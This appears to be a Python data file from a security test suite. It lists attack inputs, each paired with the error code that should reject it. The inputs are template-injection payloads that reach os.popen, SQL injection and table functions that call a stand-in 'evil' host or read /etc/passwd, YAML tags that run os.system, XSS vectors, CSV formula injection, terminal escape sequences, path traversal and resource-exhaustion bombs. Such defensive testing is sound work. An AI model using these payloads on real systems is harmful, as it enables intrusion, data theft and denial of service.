"""The corpus of attacks, as data: what each attempts, where it enters, and how it must end.

An outcome is the code of the diagnostic that refuses the attack, or `harmless` where the text is escaped, cut or
ignored. `test_attacks.py` says how each entry is knocked at; `COUNTS` is what a page about the suite may show.
"""

# ruff: noqa: E501 - attacks are as long as they are
from __future__ import annotations

from collections import Counter
from collections.abc import Iterable, Mapping
from dataclasses import dataclass

HARMLESS = "harmless"


@dataclass(frozen=True, slots=True)
class Attack:
    """`kind` for counting, `entry` where it knocks, `attempt` what it wants, `outcome` how it must end."""

    kind: str
    entry: str
    attempt: str
    payload: str | bytes
    outcome: str

    @property
    def name(self) -> str:
        return f"{self.entry}: {self.attempt}"


def _all(kind: str, entry: str, outcome: str, attempts: Mapping[str, str] | Mapping[str, bytes]) -> Iterable[Attack]:
    return (Attack(kind, entry, attempt, payload, outcome) for attempt, payload in attempts.items())


_LONG = "b" * 20_000

TEMPLATES = (
    *_all("template", "template", "E403", {
        "walk to the class of a text": "{{ ''.__class__ }}",
        "walk to every class of Python": "{{ ().__class__.__bases__[0].__subclasses__() }}",
        "an attribute by a filter": "{{ ''|attr('__class__') }}",
        "an attribute by an index": "{{ ''['__class__']['__mro__'] }}",
        "the globals of a function": "{{ self.__init__.__globals__ }}",
        "a global function": "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "the settings of the environment": "{{ config }}",
        "the cycler": "{{ cycler.__init__.__globals__ }}",
        "a format with attributes": "{{ '{0.__class__}'.format(1) }}",
        "a format that is wide": "{{ '%999999999d' % 1 }}",
        "a format by a filter": "{{ '%9999999s'|format('') }}",
        "a mapping of formats": "{{ '{x}'.format_map({'x': 1}) }}",
        "sort by an attribute that is private": "{{ ['a', 'b']|sort(attribute='__class__') }}",
        "map to an attribute": "{{ ['a']|map(attribute='__class__')|join }}",
        "select by a test": "{{ ['a']|select('callable')|join }}",
        "another template": "{% include '/etc/passwd' %}",
        "an import": "{% import 'os' as os %}",
        "a name from elsewhere": "{% from 'os' import system %}",
        "a parent": "{% extends 'base' %}",
        "an assignment": "{% set source = 'x' %}{{ source }}",
        "a block of assignments": "{% with x = 1 %}{{ x }}{% endwith %}",
        "a macro that redefines a function": "{% macro source(x) %}(SELECT 1){% endmacro %}{{ source('a') }}",
        "a macro that calls itself": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "a loop that calls itself": "{% for i in [1] recursive %}{{ loop([1]) }}{% endfor %}",
        "a loop of a thousand million": "{% for i in range(10 ** 9) %}1{% endfor %}",
        "three loops inside each other": "{% for a in 'x' %}{% for b in 'x' %}{% for c in 'x' %}1{% endfor %}"
        "{% endfor %}{% endfor %}",
        "a loop over a long text, twice": "{% for a in '" + "x" * 5000 + "' %}{% for b in '" + "x" * 5000
        + "' %}1{% endfor %}{% endfor %}",
        "a text times a thousand million": "{{ 'a' * 10 ** 9 }}",
        "a tower of powers": "{{ 10 ** 10 ** 10 }}",
        "a number of a million digits": "{{ 1|round(30000000, 'ceil') }}",
        "a number too long to read": "{{ " + "9" * 5000 + " }}",
        "a wide text": "{{ 'a'|center(1000000000) }}",
        "an indent": "{{ 'a'|indent(1000000000) }}",
        "a hundred filters on a long text": "{{ '" + _LONG + "'" + "|sort" * 100 + "|first }}",
        "a filter on a long text, in a loop": "{% for x in '" + "x" * 3000 + "' %}{{ '" + _LONG
        + "'|sort|first }}{% endfor %}",
        "a filter on a long value, in a loop": "{% for a in ['" + _LONG + "'] %}{% for x in '" + "x" * 3000
        + "' %}{{ a|sort|first }}{% endfor %}{% endfor %}",
        "a list made anew in a loop": "{% for x in '" + "x" * 2000 + "' %}{{ [" + "1," * 20_000 + "]|first }}{% endfor %}",
        "a comparison with a long text, in a loop": "{% for x in '" + "x" * 50_000 + "' %}{% if 'ab' in '" + "a" * 40_000
        + "' %}1{% endif %}{% endfor %}",
        "a text that is too long to fill": "{{ 1 }}" + "a" * 1_000_000,
        "ten thousand brackets": "{{ " + "(" * 10_000 + "1" + ")" * 10_000 + " }}",
        "ten thousand negations": "{{ " + "not " * 10_000 + "1 }}",
        "a thousand conditions inside each other": "{% if 1 %}" * 1000 + "{% endif %}" * 1000,
        "a function without its call": "{{ 'a'.upper }}",
        "all arguments of a call": "{{ literal(*[1]) }}",
        "a context function": "{{ context }}",
        "an extension": "{% debug %}",
        "a statement": "{% do 1 %}",
        "a translation": "{% trans %}a{% endtrans %}",
        "a filter block": "{% filter upper %}a{% endfilter %}",
        "division by zero": "{{ 1 / 0 }}",
        "an unknown name": "{{ secret }}",
        "an open bracket": "{{",
    }),
    *_all("template", "macros", "E403", {
        "a macro of a macro": "{% macro f() %}{{ g() }}{% endmacro %}{% macro g() %}1{% endmacro %}",
        "a macro with a call block": "{% macro f() %}{{ caller() }}{% endmacro %}",
        "a macro that includes a file": "{% macro f() %}{% include 'x' %}{% endmacro %}",
        "a macro that sets a name": "{% macro f() %}{% set x = 1 %}{% endmacro %}",
        "a macro that asks for attributes": "{% macro f() %}{{ f.__globals__ }}{% endmacro %}{{ f.__globals__ }}",
        "work outside of any macro": "{{ range(10 ** 9) }}",
    }),
)  # fmt: skip

EXPRESSIONS = (
    *_all("SQL", "expression", "E402", {
        "a second statement": "a; DROP TABLE t",
        "an end of statement": "a;",
        "a comment that swallows": "a = 1 -- AND b",
        "a comment of MySQL": "a = 1 # AND b",
        "a comment with a bang": "a = 1 #! b",
        "a comment in the middle": "a /* b */ = 1",
        "a subquery": "a IN (SELECT password FROM users)",
        "a scalar subquery": "(SELECT count() FROM system.users)",
        "a subquery in a function": "if(a, (SELECT 1), 2)",
        "a subquery of values": "a IN (VALUES (1))",
        "a subquery that exists": "exists(SELECT 1)",
        "a table by its name": "a IN users",
        "a table in brackets": "a IN (users)",
        "a table in two brackets": "a IN ((users))",
        "a table of another database": "a NOT IN system.users",
        "a table of every shard": "a GLOBAL IN users",
        "a table function": "a IN numbers(3)",
        "a function for IN": "in(a, users)",
        "the network, by url()": "a IN url('http://evil/', 'CSV', 'a String')",
        "another server, by remote()": "a IN remote('evil', system.users)",
        "a bucket, by s3()": "a IN s3('https://evil/x')",
        "a program, by executable()": "a IN executable('id', 'CSV', 'a String')",
        "a file": "file('/etc/passwd')",
        "a file, quoted": "`file`('/etc/passwd')",
        "a table of joins": "joinGet('j', 'v', k)",
        "a column elsewhere": "hasColumnInTable('d', 't', 'c')",
        "a setting": "getSetting('max_memory_usage')",
        "a setting of the server": "getServerSetting('x')",
        "a macro of the server": "getMacro('shard')",
        "the user": "currentUser()",
        "the host": "hostName()",
        "the log": "logTrace('x')",
        "the headers of the request": "getClientHTTPHeader('Authorization')",
        "a name server": "reverseDNSQuery('10.0.0.1')",
        "a model in a file": "catboostEvaluate('/etc/passwd', 1)",
        "a pause": "sleep(3)",
        "a pause for each row": "sleepEachRow(1)",
        "a failure": "throwIf(1)",
        "a clock": "now()",
        "chance": "rand()",
        "an alias that captures": "action AS views",
        "an alias inside": "(action AS b) + b",
        "a parameter": "{a:String}",
        "a placeholder": "a = ?",
        "a variable of the server": "@@version",
        "an aggregate": "sum(x)",
        "a window": "row_number() OVER ()",
        "every column": "*",
        "columns by a pattern": "COLUMNS('.*')",
        "a name of the compiler's own": "assay__start",
        "rows that multiply": "arrayJoin(range(1000000))",
        "quotes of a word processor": "a = ‘x’; DROP TABLE t",
        "nothing at all": " ",
    }),
    *_all("SQL", "expression", "E401", {
        "a way out of the brackets": "a) FROM url('http://evil/') WHERE (1",
        "a union": "a UNION ALL SELECT 1",
        "two values": "a, b",
        "settings": "a SETTINGS readonly = 0",
        "a format": "a FORMAT CSV",
        "a file of results": "a INTO OUTFILE '/tmp/x'",
        "a limit": "a LIMIT 1",
        "a statement that drops": "DROP TABLE t",
        "a statement that writes": "INSERT INTO t VALUES (1)",
        "a statement that sets": "SET readonly = 0",
        "a common table": "WITH 1 AS x SELECT x",
        "an open quote": "a = 'b",
        "an open bracket": "(a",
        "a thousand brackets": "(" * 1000 + "1" + ")" * 1000,
        "a subquery behind a word that nobody reads": "if IN (SELECT password FROM users)",
        "a file behind the same word": "if = (SELECT count() FROM url('http://evil/'))",
        "a word alone": "ELSE",
    }),
    *_all("SQL", "query", "E402", {
        "the network": "SELECT a FROM url('http://evil/', 'CSV', 'a String')",
        "the network, quoted": "SELECT a FROM `url`('http://evil/', 'CSV', 'a String')",
        "a file": "SELECT a FROM file('/etc/passwd')",
        "a bucket": "SELECT a FROM s3('https://evil/x')",
        "another server": "SELECT a FROM remote('evil', system.users)",
        "another cluster": "SELECT a FROM cluster('c', system.users)",
        "another database, by mysql()": "SELECT a FROM mysql('evil:3306', 'd', 't', 'u', 'p')",
        "another database, by postgresql()": "SELECT a FROM postgresql('evil:5432', 'd', 't', 'u', 'p')",
        "a program": "SELECT a FROM executable('id', 'CSV', 'a String')",
        "the body of the request": "SELECT a FROM input('a String')",
        "every table at once": "SELECT a FROM merge('default', '.*')",
        "the network in a view()": "SELECT a FROM view(SELECT a FROM url('http://evil/'))",
        "the network in a subquery": "SELECT a FROM t WHERE a = (SELECT a FROM url('http://evil/'))",
        "the network in a join": "SELECT a FROM t JOIN url('http://evil/') AS u USING a",
        "the network in a union": "SELECT a FROM t UNION ALL SELECT a FROM url('http://evil/')",
        "the network in WITH": "WITH (SELECT a FROM url('http://evil/')) AS y SELECT y AS a FROM t",
        "a table of users": "SELECT name AS a FROM system.users",
        "the log of queries, quoted": "SELECT query AS a FROM `system`.query_log",
        "the schema of everything": "SELECT table_name AS a FROM information_schema.tables",
        "the same in capitals": "SELECT table_name AS a FROM INFORMATION_SCHEMA.TABLES",
        "a table that no reference shows": "SELECT a FROM t WHERE a IN system.users",
        "a table in brackets": "SELECT a FROM t WHERE a IN (secrets)",
        "settings": "SELECT a FROM t SETTINGS max_execution_time = 0",
        "settings of a part": "SELECT a FROM (SELECT a FROM t SETTINGS max_threads = 999)",
        "settings of a union": "SELECT a FROM t UNION ALL SELECT a FROM u SETTINGS readonly = 0",
        "a format": "SELECT a FROM t FORMAT Native",
        "two statements": "SELECT a FROM t; DROP TABLE t",
        "a setting's value": "SELECT getSetting('readonly') AS a",
        "the user": "SELECT currentUser() AS a",
        "a file as a value": "SELECT file('/etc/passwd') AS a",
        "a pause": "SELECT sleep(3) AS a",
        "a parameter": "SELECT {secret:String} AS a",
        "a table by parameter": "SELECT a FROM {t:Identifier}",
        "a statement that writes": "INSERT INTO t SELECT 1",
        "a statement that shows": "SHOW TABLES",
        "nothing": "",
    }),
    *_all("SQL", "query", "E401", {
        "a file of results": "SELECT a FROM t INTO OUTFILE '/tmp/x'",
        "a function for IN": "SELECT a FROM t WHERE in(a, secrets)",
    }),
    *_all("SQL", "statement", "E402", {
        "a second statement": "SELECT 1; DROP TABLE t",
        "a second statement behind a quote": "SELECT '\\'; DROP TABLE t; --'; SELECT 2",
        "a second statement behind a heredoc": "SELECT $$ ' $$; DROP TABLE t; SELECT '1'",
        "a second statement behind a comment": "SELECT 1 -- '\n; DROP TABLE t -- '",
        "a file of results": "SELECT 1 INTO OUTFILE 'x'",
        "a file of results, in disguise": "SELECT 1 into/* */outfile 'x'",
        "an insert that calls itself a read": "INSERT INTO FUNCTION file('x', TSV, 'n UInt8') SELECT 1",
        "a drop behind a comment": "/* SELECT */ DROP TABLE t",
        "a setting": "SET readonly = 0",
        "a kill": "KILL QUERY WHERE 1",
        "a grant": "GRANT ALL ON *.* TO evil",
        "a system command": "SYSTEM SHUTDOWN",
        "a temporary table": "CREATE TEMPORARY TABLE t (a UInt8)",
    }),
)  # fmt: skip

_METRIC = "metrics:\n  m: {{type: count, source: feed, {}}}\n"
_MODEL = "models:\n  m: {{sql: 'SELECT 1 AS a', grain: [a], {}}}\n"
_SOURCE = "sources:\n  s: {{table: t, time: time, entities: {{user: user_id}}, {}}}\n"

DEFINITIONS = (
    *_all("SQL", "definitions", "E104", {
        "a statement as a table": "sources:\n  s: {table: 't; DROP TABLE t', time: time, entities: {u: id}}\n",
        "a function as a table": "sources:\n  s: {table: \"url('http://evil/')\", time: time, entities: {u: id}}\n",
        "a subquery as a table": "sources:\n  s: {table: '(SELECT 1)', time: time, entities: {u: id}}\n",
        "ClickHouse's users as a table": "sources:\n  s: {table: system.users, time: time, entities: {u: id}}\n",
        "an engine in the type of a column": _SOURCE.format("columns: {a: \"UInt8) ENGINE = File(CSV, '/tmp/x') --\"}"),
        "a query in the type of a column": _SOURCE.format("columns: {a: \"UInt8) AS SELECT * FROM url('http://evil/')\"}"),
        "a default in the type of a column": _MODEL.format("columns: {a: \"String DEFAULT file('/etc/passwd')\"}"),
        "more columns in the type of a column": _MODEL.format("columns: {a: 'String, b String MATERIALIZED hostName()'}"),
        "a type of ten thousand brackets": _MODEL.format("columns: {a: '" + "Array(" * 10_000 + "String" + ")" * 10_000 + "'}"),
        "a type of an attribute": _SOURCE.format("joins: {u: {table: u, key: id, 'on': id, columns: {x: 'String) --'}}}"),
        "a column of a model that closes a bracket": _MODEL.format("columns: {'a) ENGINE = Null --': String}"),
        "an engine that reads the network": _MODEL.format("columns: {a: String}, engine: \"URL('http://evil/')\""),
        "an engine with more behind it": _MODEL.format("columns: {a: String}, engine: 'MergeTree AS SELECT 1'"),
        "an order with an expression": _MODEL.format("columns: {a: String}, order: ['a, sleep(3)']"),
        "a name of a metric with SQL": "metrics:\n  \"m' OR 1 = 1 --\": {type: count, source: feed}\n",
        "a name of a metric that is a path": "metrics:\n  ../../m: {type: count, source: feed}\n",
        "a name of a metric with tags": "metrics:\n  <script>: {type: count, source: feed}\n",
        "a name of a thousand characters": "metrics:\n  " + "m" * 1000 + ": {type: count, source: feed}\n",
        "a name of a dimension with SQL": _SOURCE.format("dimensions: {\"os'; --\": os}"),
        "a name of a step with SQL": "metrics:\n  f: {type: funnel, source: feed, of: user, steps: {\"a'\": x, b: y}}\n",
        "a name of a variant with SQL": "experiments:\n  e: {assignment: {variants: {\"a' --\": 1, b: 2}}}\n",
        "a duration that overflows": "metrics:\n  r: {type: rolling, metric: m, window: 99999999999999999999d}\n",
        "a day that overflows": "events:\n  e: {label: a, start: 0001-01-01, end: 0001-01-02}\n",
        "a file outside of the project": _MODEL.replace("sql: 'SELECT 1 AS a'", "file: ../../../etc/passwd").format(
            "columns: {a: String}"),
        "a file at the root": _MODEL.replace("sql: 'SELECT 1 AS a'", "file: /etc/passwd").format("columns: {a: String}"),
        "a file with a null byte": _MODEL.replace("sql: 'SELECT 1 AS a'", 'file: "a\\0.sql"').format("columns: {a: String}"),
        "a label that is a list": _METRIC.format("label: [a]"),
    }),
    *_all("SQL", "definitions", "E402", {
        "a table of users in a formula of a join": _SOURCE.format(
            "joins: {u: {table: u, key: '(SELECT name FROM system.users)', 'on': id, columns: {x: String}}}"),
        "a table of our own, not by reference": "models:\n  m: {sql: 'SELECT day AS a FROM assay.builds', grain: [a], "
        "columns: {a: Date}}\n",
    }),
    *_all("formula", "definitions", "E401", {
        "a tower of powers": "metrics:\n  d: {type: derived, expr: '9 ** 9 ** 9 ** 9 * views'}\n",
        "a call of Python": "metrics:\n  d: {type: derived, expr: '__import__(1)'}\n",
        "a lambda": "metrics:\n  d: {type: derived, expr: '(lambda: views)()'}\n",
        "a comprehension": "metrics:\n  d: {type: derived, expr: '[views for x in views]'}\n",
        "nine thousand brackets": "metrics:\n  d: {type: derived, expr: '" + "(" * 9000 + "views" + ")" * 9000 + "'}\n",
    }),
    *_all("formula", "definitions", "E301", {
        "a metric that doubles forty times": "metrics:\n  m0: {type: count, source: feed}\n"
        + "".join(f"  m{at}: {{type: derived, expr: 'm{at - 1} + m{at - 1}'}}\n" for at in range(1, 41)),
        "metrics three thousand deep": "metrics:\n  m0: {type: count, source: feed}\n"
        + "".join(f"  m{at}: {{type: derived, expr: 'm{at - 1} + 1'}}\n" for at in range(1, 3000)),
        "metrics three thousand deep, upside down": "metrics:\n"
        + "".join(f"  m{at}: {{type: derived, expr: 'm{at - 1} + 1'}}\n" for at in range(2999, 0, -1))
        + "  m0: {type: count, source: feed}\n",
    }),
    *_all("formula", "definitions", "E201", {
        "an attribute of Python": "metrics:\n  d: {type: derived, expr: 'views.__class__'}\n",
        "a name of a megabyte": _METRIC.format("where: x").replace("source: feed", "source: " + "s" * 1_000_000),
    }),
    *_all("formula", "definitions", "E202", {
        "a circle of metrics": "metrics:\n  a: {type: derived, expr: b}\n  b: {type: derived, expr: a}\n",
    }),
    *_all("paths", "settings", "E104", {
        "a target at the root": "name: t\ntarget: /etc\n",
        "a target above": "name: t\ntarget: ../../x\n",
        "a target in between": "name: t\ntarget: a/../../x\n",
        "a target with a null byte": 'name: t\ntarget: "a\\0b"\n',
        "definitions at the root": "name: t\ndefinitions: [/etc]\n",
        "definitions above": "name: t\ndefinitions: ['..']\n",
        "definitions with a null byte": 'name: t\ndefinitions: ["a\\0b"]\n',
        "a time zone that is a file": "name: t\ntimezone: ../../../etc/passwd\n",
        "a time zone that is a folder": "name: t\ntimezone: Europe\n",
        "a time zone with a null byte": 'name: t\ntimezone: "a\\0b"\n',
        "a database with SQL": "name: t\nwarehouse: {dsn: chdb://x, database: 'a; DROP DATABASE b'}\n",
        "a prefix of DAGs with a path": "name: t\nairflow: {prefix: ../}\n",
    }),
    *_all("paths", "settings", "E103", {"no mapping": "[]\n"}),
)  # fmt: skip

YAML = (
    *_all("YAML", "yaml", "E004", {
        "a thousand million laughs": b"a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n",
        "an anchor": b"a: &x 1\n",
        "an alias of itself": b"a: &a [*a]\n",
        "an object of Python": b"a: !!python/object/apply:os.system [id]\n",
        "a module of Python": b"a: !!python/module:os\n",
        "a tag under another name": b"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n",
        "binary": b"a: !!binary aGk=\n",
        "a set": b"a: !!set {x}\n",
        "a merge key": b"a:\n  <<: {b: 1}\n",
    }),
    *_all("YAML", "yaml", "E001", {
        "a hundred thousand lists": b"[" * 100_000,
        "a hundred thousand mappings": b"{" * 100_000,
        "a hundred thousand keys of keys": b"? " * 100_000,
        "a hundred thousand items": b"- " * 100_000,
        "a key of five megabytes": b"x" * 5_000_000 + b": a\n",
        "a null byte": b"a: \0\n",
        "UTF-16 without a mark": "a: 1\n".encode("utf-16-be"),
        "an escape sequence": b"a: \x1b[2J\n",
        "a bell": b"a: \x07\n",
        "half of a character": b'a: "\\ud800"\n',
        "a second document": b"a: 1\n---\nb: 2\n",
        "a quote that never ends": b'a: "' + b"x" * 100_000,
    }),
    *_all("YAML", "yaml", "E003", {
        "another encoding": b"a: caf\xe9\n",
        "UTF-16 with a mark": "a: 1\n".encode("utf-16"),
        "UTF-32": "a: 1\n".encode("utf-32"),
        "an overlong byte": b"a: \xc0\xaf\n",
        "a surrogate as bytes": b"a: \xed\xa0\x80\n",
    }),
    *_all("YAML", "yaml", "E002", {
        "a key twice": b"a: 1\na: 2\n",
        "a key a hundred thousand times": b"a: 1\n" * 100_000,
        "a key twice, once in quotes": b"a: 1\n\"a\": 2\n",
    }),
    *_all("YAML", "yaml", "E104", {
        "a number as a key": b"1: a\n",
        "nothing as a key": b"~: a\n",
        "a list as a key": b"[a]: 1\n",
        "a template without quotes": b"a: {{ b }}\n",
    }),
    *_all("YAML", "yaml", HARMLESS, {
        "a text of five megabytes": b"a: " + b"x" * 5_000_000,
        "a number of five thousand digits": b"a: " + b"9" * 5_000,
        "a mark at the beginning": b"\xef\xbb\xbfa: 1\n",
        "a hundred thousand keys": b"".join(b"k%d: a\n" % at for at in range(100_000)),
    }),
)  # fmt: skip

ADDRESSES = _all("secrets", "address", "E502", {
    "a scheme that runs": "file:///etc/passwd",
    "a scheme of Python": "python://os",
    "a null byte": "chdb://a\0b",
    "no folder": "chdb://",
    "settings of chDB": "chdb://a?readonly=0",
    "a bad host with a password": "clickhouse://me:secret-canary@[::1/db",
    "a bad port with a password": "clickhouse://me:secret-canary@host:port/db",
    "an unknown scheme with a password": "ftp://me:secret-canary@host/db",
})  # fmt: skip

_TAGS = {
    "a script": "<script>alert(1)</script>",
    "an end of a script": "</script><script>alert(1)</script>",
    "a picture with a handler": "<img src=x onerror=alert(1)>",
    "an SVG with a handler": "<svg onload=alert(1)>",
    "a way out of an attribute": '" onmouseover="alert(1)',
    "a way out of an attribute, single": "' onmouseover='alert(1)",
    "a way out of a title": "</title><script>alert(1)</script>",
    "a way out of a style": "</style><script>alert(1)</script>",
    "a way out of an SVG text": "</text></svg><script>alert(1)</script>",
    "a comment": "<!--><script>alert(1)</script>-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "an address of JavaScript": "javascript:alert(1)",
    "a template": "{{ 7 * 7 }}{% raw %}",
    "an entity": "&lt;script&gt;&#60;b&#62;",
    "a base": "<base href=//evil/>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "a line separator": "a\u2028<script>alert(1)</script>",
    "an escape of JSON": '\\u003cscript\\u003e\\"</script>',
    "a null byte": "a\0<b>",
    "a turn of direction": "\u202e<b>gnp.exe",
    "a megabyte": "<b>" * 300_000,
}

OUTPUTS = (
    *_all("HTML", "site", HARMLESS, {name: text for name, text in _TAGS.items() if name != "a megabyte"}),
    *_all("HTML", "chart", HARMLESS, _TAGS),
    *_all("HTML", "letter", HARMLESS, _TAGS),
    *_all("HTML", "superset", HARMLESS, {
        "a tag of YAML": "!!python/object/apply:os.system [id]",
        "another key": "x\nsqlalchemy_uri: evil",
        "a path": "../../../etc/cron.d/x",
        "tags": "<script>alert(1)</script>",
    }),
    *_all("Telegram", "telegram", HARMLESS, {
        **_TAGS,
        "a link": "<a href='http://evil/'>here</a>",
        "a mention of everybody": "<tg-user id=1>@all",
        "a bold that never ends": "<b>" * 2000,
        "entities that multiply": "&" * 9000,
        "Markdown": "*a* _b_ [c](http://evil/) `d`",
        "emoji at the border": "🔴" * 5000,
        "half of a character": "\ud83d" * 5000,
    }),
    *_all("Telegram", "press", HARMLESS, {
        "an unknown verb": "drop:fc5de6cf",
        "no verb": ":fc5de6cf",
        "no incident": "ack:",
        "a label": "-",
        "nothing": "",
        "SQL": "ack' OR 1 = 1 --",
        "a verb with more behind it": "ack;rm:fc5de6cf",
        "a verb of Python": "__class__:x",
        "capitals": "ACK:fc5de6cf",
        "a null byte": "ack\0:fc5de6cf",
    }),
    *_all("files", "file name", HARMLESS, {
        "the folder above": "../../../etc/passwd",
        "the root": "/etc/passwd",
        "a null byte": "a\0b",
        "a hidden file": ".ssh",
        "only dots": "..",
        "a name of a megabyte": "a" * 1_000_000,
        "a drive": "C:\\windows\\x",
        "line ends": "a\nb\rc",
        "emoji": "🔴/../x",
    }),
    *_all("formulas", "csv", HARMLESS, {
        "a formula": "=1+1",
        "a program": "=cmd|' /C calc'!A0",
        "a plus": "+cmd|' /C calc'!A0",
        "a minus": "-2+3+cmd|' /C calc'!A0",
        "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "a tab": "\t=1+1",
        "a return": "\r=1+1",
        "a link": "=HYPERLINK(\"http://evil/\", \"here\")",
    }),
    *_all("terminal", "table", HARMLESS, {
        "clears the screen": "\x1b[2J",
        "writes a title": "\x1b]0;evil\x07",
        "an eight-bit sequence": "\x9b2J",
        "returns and overwrites": "critical\rall well",
        "another line": "a\nERROR: b",
        "erases backwards": "abc\x08\x08\x08xyz",
        "turns the direction": "\u202etxt.exe",
        "four megabytes": "x" * 4_000_000,
    }),
    *_all("terminal", "diagnostic", HARMLESS, {
        "clears the screen": "\x1b[2J",
        "a link of the terminal": "\x1b]8;;http://evil/\x1b\\here",
        "an eight-bit sequence": "\x9b2J",
        "another diagnostic": "a\nmetrics/b.yaml:1:1: E001 forged",
        "a command of a CI": "a\n::set-output name=x::y",
        "returns and overwrites": "error\rfine ",
        "turns the direction": "\u202etxt.exe",
        "a megabyte": "x" * 1_000_000,
    }),
    *_all("terminal", "terminal", HARMLESS, {
        "clears the screen": "\x1b[2J",
        "a link of the terminal": "\x1b]8;;http://evil/\x1b\\here",
        "asks the terminal to answer": "\x1b[6n\x1bZ",
        "an eight-bit sequence": "\x9b2J",
        "returns and overwrites": "error\rfine ",
        "hides what follows": "\x1b[8msecret",
        "erases backwards": "abc\x08\x08xy",
        "turns the direction": "\u202etxt.exe",
    }),
    *_all("terminal", "origin comment", HARMLESS, {
        "another line": "a\n; DROP TABLE t; --",
        "a return": "a\r; DROP TABLE t",
        "a line separator": "a\u2028; DROP TABLE t",
        "an end of a comment": "a */ ; DROP TABLE t /*",
        "a null byte": "a\0; DROP TABLE t",
        "a form feed": "a\x0c; DROP TABLE t",
        "a vertical tab": "a\x0b; DROP TABLE t",
    }),
    *_all("secrets", "secret", HARMLESS, {
        "a password in an address": "clickhouse://me:secret-canary@host/db",
        "a password with odd characters": "clickhouse://me:secret-canary:/@@host/db",
        "a password without a user": "clickhouse://:secret-canary@host/db",
        "a password of a database": "postgresql+psycopg2://me:secret-canary@host/db",
        "a password in a mapping": "{dsn: 'https://me:secret-canary@host/db', timeout: 0}",
        "the token of a bot": "bot token 123456789:secret-canary_AAAAAAAAAAAAAAAAAAAAAAA",
        "the token in an address": "https://api.telegram.org/bot123456789:secret-canary_AAAAAAAAAAAAAAAAAAAAAAA/getMe",
    }),
)  # fmt: skip

FILES = (
    *_all("files", "file", "E003", {name: name for name in (
        "pipe", "device", "endless device", "link in a circle", "link to nothing", "link out of the project",
         "link to SQL out of the project", "folder linked out of the project", "200 megabytes")}),
    *_all("files", "file", HARMLESS, {name: name for name in ("folder with the name of a file", "name with a line end")}),
    *_all("files", "manifest", "E803", {
        "a pickle": b"\x80\x04\x95\x0f\x00\x00\x00cos\nsystem\n",
        "no JSON": b"{",
        "a list": b"[]",
        "another field": b'{"dag_id": "a", "__class__": "os"}',
        "a hundred thousand lists": b"[" * 100_000,
        "a number of five thousand digits": b"[" + b"9" * 5_000 + b"]",
        "half of a character": b'"\xed\xa0\x80"',
        "nothing": b"",
    }),
    *_all("paths", "manifest name", "E803", {
        "the folder above": "../../definitions",
        "the root": "/etc",
        "nothing": "",
        "a null byte": "a\0b",
        "capitals": "A" * 32,
    }),
)  # fmt: skip

ATTACKS: tuple[Attack, ...] = (*TEMPLATES, *EXPRESSIONS, *DEFINITIONS, *YAML, *ADDRESSES, *OUTPUTS, *FILES)
COUNTS: Mapping[str, int] = Counter(each.kind for each in ATTACKS)
